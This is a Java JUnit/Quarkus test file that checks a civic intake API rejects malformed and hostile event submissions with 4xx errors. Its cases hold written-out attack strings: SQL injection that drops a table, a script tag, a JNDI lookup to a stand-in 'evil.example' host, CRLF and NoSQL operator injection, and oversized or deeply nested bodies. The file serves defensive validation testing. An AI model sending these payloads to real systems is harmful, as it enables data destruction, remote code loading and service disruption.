package org.civiclink.intake.api;

import static io.restassured.RestAssured.given;
import static org.civiclink.intake.IntakeTestSupport.SHELTER_TOKEN;
import static org.civiclink.intake.IntakeTestSupport.event;
import static org.hamcrest.Matchers.allOf;
import static org.hamcrest.Matchers.greaterThanOrEqualTo;
import static org.hamcrest.Matchers.lessThan;
import static org.hamcrest.Matchers.startsWith;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;
import java.util.stream.Stream;

import org.civiclink.intake.IntakeTestSupport;
import org.civiclink.platform.testing.KafkaTestResource;
import org.civiclink.platform.testing.PostgresTestResource;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;

/**
 * Hostile and broken input: each gets a 4xx problem, and none of it reaches the accepted topic.
 * Every case carries an agencyEventId starting with "mal-" where it can carry one at all, and the
 * last test reads the whole accepted topic for any of them.
 */
@QuarkusTest
@QuarkusTestResource(value = KafkaTestResource.class, restrictToAnnotatedClass = true)
@QuarkusTestResource(value = PostgresTestResource.class, restrictToAnnotatedClass = true)
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class MalformedInputTest {

    private static final String JSON = "application/json";

    static Stream<Arguments> malformed() {
        List<Arguments> cases = new ArrayList<>();
        // Not an event at all.
        add(cases, "empty body", JSON, "");
        add(cases, "JSON null", JSON, "null");
        add(cases, "JSON array", JSON, "[]");
        add(cases, "JSON number", JSON, "42");
        add(cases, "JSON string", JSON, "\"an event\"");
        add(cases, "truncated JSON", JSON, "{\"agencyCode\":\"DHS-SHELTER\",\"agencyEventId\":\"ID\"");
        add(cases, "empty object", JSON, "{}");
        add(cases, "JSON with comments", JSON, "/* hi */" + valid());
        add(cases, "single-quoted JSON", JSON, valid().replace('"', '\''));
        add(cases, "NaN literal", JSON, valid().replace("\"sex\":\"F\"", "\"sex\":NaN"));
        // Wrong types.
        add(cases, "agencyEventId is an object", JSON, valid().replace("\"ID\"", "{\"id\":\"ID\"}"));
        add(cases, "eventType is an array", JSON, valid().replace("\"shelter.entry\"", "[\"shelter.entry\"]"));
        add(cases, "occurredAt is text", JSON, valid().replace("\"2026-11-30T20:15:00Z\"", "\"yesterday\""));
        add(cases, "occurredAt is a boolean", JSON, valid().replace("\"2026-11-30T20:15:00Z\"", "true"));
        add(cases, "occurredAt month 13", JSON, valid().replace("\"2026-11-30T20:15:00Z\"", "\"2026-13-45T00:00:00Z\""));
        add(cases, "occurredAt in the year 3000", JSON, valid().replace("\"2026-11-30T20:15:00Z\"", "\"3000-01-01T00:00:00Z\""));
        add(cases, "occurredAt overflows", JSON, valid().replace("\"2026-11-30T20:15:00Z\"", "1e400"));
        add(cases, "person is a string", JSON, valid().replaceFirst("\"person\":\\{", "\"person\":\"Maria\",\"x\":{"));
        add(cases, "names is an object", JSON, valid().replace("\"names\":[{\"given\":\"Maria\",\"family\":\"Lopez\",\"use\":\"OFFICIAL\"}]",
                "\"names\":{\"given\":\"Maria\"}"));
        add(cases, "facts is a string", JSON, valid().replaceFirst("\"facts\":\\[", "\"facts\":\"housing\",\"x\":["));
        add(cases, "operator object as a name", JSON, valid().replace("\"given\":\"Maria\"", "\"given\":{\"$ne\":null}"));
        add(cases, "validFrom not a date", JSON, valid().replace("\"use\":\"SHELTER\"", "\"use\":\"SHELTER\",\"validFrom\":\"soon\""));
        // Missing what makes an event usable.
        add(cases, "no agencyEventId", JSON, valid().replace("\"agencyEventId\":\"ID\",", "\"note\":\"ID\","));
        add(cases, "blank agencyEventId", JSON, valid().replace("\"agencyEventId\":\"ID\"", "\"agencyEventId\":\"   \",\"note\":\"ID\""));
        add(cases, "no occurredAt", JSON, valid().replace("\"occurredAt\":\"2026-11-30T20:15:00Z\",", ""));
        add(cases, "empty occurredAt", JSON, valid().replace("\"2026-11-30T20:15:00Z\"", "\"\""));
        add(cases, "no eventType", JSON, valid().replace("\"eventType\":\"shelter.entry\",", ""));
        add(cases, "no person", JSON, valid().replaceFirst("\"person\":\\{", "\"x\":{"));
        add(cases, "person null", JSON, valid().replaceFirst("\"person\":\\{", "\"person\":null,\"x\":{"));
        add(cases, "no agencyRecordId", JSON, valid().replace("\"agencyRecordId\":\"S-MAL\",", ""));
        add(cases, "null name entry", JSON, valid().replace("\"names\":[", "\"names\":[null,"));
        add(cases, "null fact", JSON, valid().replace("\"facts\":[", "\"facts\":[null,"));
        add(cases, "fact without category", JSON, valid().replace("\"category\":\"housing\",", ""));
        add(cases, "consent without declaredAt", JSON, valid().replace(",\"declaredAt\":\"2026-11-30T20:20:00Z\"", ""));
        add(cases, "phone without number", JSON, valid().replace("\"number\":\"+1 212 555 0143\",", ""));
        // Unknown codes and injection strings where a code belongs.
        add(cases, "unknown event type", JSON, valid().replace("shelter.entry", "shelter.party"));
        add(cases, "homoglyph event type", JSON, valid().replace("shelter.entry", "sh\u0435lter.entry"));
        add(cases, "SQL injection as event type", JSON, valid().replace("shelter.entry", "x'; DROP TABLE received_event;--"));
        add(cases, "SQL injection in id of an unusable event", JSON,
                valid().replace("\"ID\"", "\"ID' OR '1'='1\"").replace("shelter.entry", "nope"));
        add(cases, "script as event type", JSON, valid().replace("shelter.entry", "<script>alert(1)</script>"));
        add(cases, "JNDI lookup as event type", JSON, valid().replace("shelter.entry", "${jndi:ldap://evil.example/a}"));
        add(cases, "CRLF in event type", JSON, valid().replace("shelter.entry", "shelter.entry\\r\\nX-Injected: 1"));
        add(cases, "NUL in event type", JSON, valid().replace("shelter.entry", "shelter.entry\\u0000"));
        add(cases, "id longer than 200", JSON, valid().replace("\"ID\"", "\"ID" + "x".repeat(300) + "\""));
        add(cases, "another agency's code", JSON, valid().replace("\"agencyCode\":\"DHS-SHELTER\"", "\"agencyCode\":\"HRA\""));
        add(cases, "unknown agency", JSON, valid().replace("\"agencyCode\":\"DHS-SHELTER\"", "\"agencyCode\":\"EVIL\""));
        // Size and depth.
        add(cases, "deeply nested unknown field", JSON, valid().replace("{\"agencyCode\"", "{\"deep\":" + "[".repeat(5000) + "]".repeat(5000) + ",\"agencyCode\""));
        add(cases, "deeply nested facts", JSON, valid().replaceFirst("\"facts\":\\[", "\"facts\":" + "[".repeat(3000) + "]".repeat(3000) + ",\"x\":["));
        add(cases, "huge payload (9 MB name, just under the body limit)", JSON,
                valid().replace("\"given\":\"Maria\"", "\"given\":\"" + "M".repeat(9 * 1024 * 1024) + "\"")
                .replace("shelter.entry", "nope"));
        // Bytes that are not UTF-8.
        cases.add(Arguments.of("invalid UTF-8 (lone continuation)", JSON, withBytes(valid(), "Lopez", new byte[] {'L', (byte) 0xC3, '(', 'z'})));
        cases.add(Arguments.of("invalid UTF-8 (overlong)", JSON, withBytes(valid(), "Lopez", new byte[] {'L', (byte) 0xC0, (byte) 0xAF})));
        cases.add(Arguments.of("invalid UTF-8 (0xFF)", JSON, withBytes(valid(), "Maria", new byte[] {(byte) 0xFF, (byte) 0xFE})));
        // Not JSON by content type.
        add(cases, "text/plain", "text/plain", valid());
        add(cases, "application/xml", "application/xml", "<event><agencyEventId>ID</agencyEventId></event>");
        add(cases, "text/csv", "text/csv", "agencyEventId,agencyCode\nID,DHS-SHELTER");
        add(cases, "octet-stream", "application/octet-stream", valid());
        return cases.stream();
    }

    @Order(1)
    @ParameterizedTest(name = "{0}")
    @MethodSource("malformed")
    void eachIsA4xxProblem(String name, String contentType, byte[] body) {
        given().auth().oauth2(SHELTER_TOKEN).header("Purpose-Of-Use", "TREATMENT")
                .contentType(contentType).body(body)
                .when().post("/v1/events")
                .then().statusCode(allOf(greaterThanOrEqualTo(400), lessThan(500)))
                .contentType(startsWith("application/problem+json"));
    }

    @Test
    @Order(2)
    void noneOfThemWasPublished() {
        assertTrue(malformed().count() >= 40);
        List<String> leaked = IntakeTestSupport.acceptedSoFar().stream()
                .map(e -> e.getAgencyEventId()).filter(id -> id.startsWith("mal-")).toList();
        assertEquals(List.of(), leaked);
    }

    private static String valid() {
        return event("DHS-SHELTER", "ID", "S-MAL").replace("\n", "");
    }

    private static void add(List<Arguments> cases, String name, String contentType, String body) {
        String id = "mal-" + cases.size() + "-" + UUID.randomUUID();
        cases.add(Arguments.of(name, contentType, body.replace("ID", id).getBytes(StandardCharsets.UTF_8)));
    }

    private static byte[] withBytes(String json, String replaced, byte[] replacement) {
        String withId = json.replace("ID", "mal-bytes-" + UUID.randomUUID());
        int at = withId.indexOf(replaced);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(withId.substring(0, at).getBytes(StandardCharsets.UTF_8));
        out.writeBytes(replacement);
        out.writeBytes(withId.substring(at + replaced.length()).getBytes(StandardCharsets.UTF_8));
        return out.toByteArray();
    }
}
